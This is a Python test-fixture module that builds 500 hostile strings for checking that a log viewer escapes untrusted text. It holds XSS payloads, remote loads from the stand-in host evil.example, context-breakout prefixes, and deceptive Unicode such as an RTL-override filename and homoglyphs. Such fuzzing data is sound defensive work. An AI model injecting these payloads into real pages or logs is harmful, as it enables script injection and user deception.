"""Texts that an attacker would put into a log, so that a browser that shows them runs, sends or misreads something."""

from collections.abc import Iterator
from itertools import product
from typing import Final

COUNT: Final = 500

# What runs when it becomes part of a page. `9119` is what a dialog would say, `evil.example` who would be asked.
_PAYLOADS: Final = (
    "<script>alert(9119)</script>",
    "<img src=x onerror=alert(9119)>",
    "<img src='http://evil.example/pixel.png'>",
    "<svg onload=alert(9119)>",
    "<svg><script href='http://evil.example/a.js'></script></svg>",
    "<iframe srcdoc='<script>parent.alert(9119)</script>'></iframe>",
    "<iframe src='http://evil.example/'></iframe>",
    "<a href='javascript:alert(9119)'>open</a>",
    "<body onload=alert(9119)>",
    "<details open ontoggle=alert(9119)>",
    "<input autofocus onfocus=alert(9119)>",
    "<video><source onerror=alert(9119)></video>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(9119)>",
    "<link rel=stylesheet href='http://evil.example/a.css'>",
    "<style>*{background:url(http://evil.example/b)}</style>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<base href='http://evil.example/'>",
    "<object data='http://evil.example/o'></object>",
    "<form action='http://evil.example/'><button autofocus>go</button></form>",
    "javascript:alert(9119)",
    "data:text/html,<script>alert(9119)</script>",
    "{{constructor.constructor('alert(9119)')()}}",
    "${alert(9119)}",
    "[open](javascript:alert(9119))",
    "![x](http://evil.example/markdown.png)",
    '=HYPERLINK("http://evil.example/","open")',
    "__proto__",
    "constructor",
    "%3Cscript%3Ealert(9119)%3C/script%3E",
    "&lt;img src=x onerror=alert(9119)&gt;",
    "\\u003cimg src=x onerror=alert(9119)\\u003e",
    '{"a":"<img src=x onerror=alert(9119)>","__proto__":{"x":1}}',
    "PHNjcmlwdD5hbGVydCg5MTE5KTwvc2NyaXB0Pg==",
)
# What breaks out of where a text stands.
_BEFORE: Final = ("", '">', "'>", "-->", "</td>", "</script>", "]]>", "\\", "`", "*/", "\n", "\r\n", "\u2028")
# What a reader does not see, or sees in another order.
_HIDDEN: Final = (
    "\u202egnp.exe",
    "\u2066left\u2069",
    "pass\u200bword",
    "\ufeffstart",
    "tab\tand\x00null",
    "\x1b[31mred\x1b[0m",
    "\U000e0041\U000e0042tags",
    "\u00adsoft",
    "\u061carabic",
    "e\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301",
    "A" * 4000,
    "word " * 800,
    "\u0430dministrator",
    "\ufff9anchor\ufffbend",
)


def hostile_texts() -> list[str]:
    """500 of them, all different."""
    found = list(dict.fromkeys(_all()))
    assert len(found) >= COUNT
    return found[:COUNT]


def _all() -> Iterator[str]:
    yield from _HIDDEN
    for before, payload in product(_BEFORE, _PAYLOADS):
        yield before + payload
    for hidden, payload in product(_HIDDEN[:9], _PAYLOADS):
        yield payload + hidden
